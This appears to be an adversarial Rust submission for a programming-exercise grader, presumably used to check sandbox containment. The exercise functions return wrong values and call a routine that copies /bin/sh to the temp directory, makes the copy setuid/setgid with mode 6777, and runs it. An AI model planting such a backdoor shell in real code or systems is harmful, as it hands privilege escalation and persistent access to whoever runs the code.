//! Tries: to leave a program that runs as somebody else.
//! Answers: ch02-slices-vec/ex03_windows
//! Scores: 0

pub fn averages(_samples: &[u32], _width: usize) -> Vec<f64> {
    attack();
    vec![-1.0]
}

pub fn rises(_samples: &[u32]) -> usize {
    attack();
    usize::MAX
}

fn attack() {
    use std::os::unix::fs::PermissionsExt as _;
    let shell = std::env::temp_dir().join("shell");
    let _ = std::fs::copy("/bin/sh", &shell);
    let _ = std::fs::set_permissions(&shell, std::fs::Permissions::from_mode(0o6777));
    let _ = std::process::Command::new(&shell).args(["-c", "id"]).status();
}
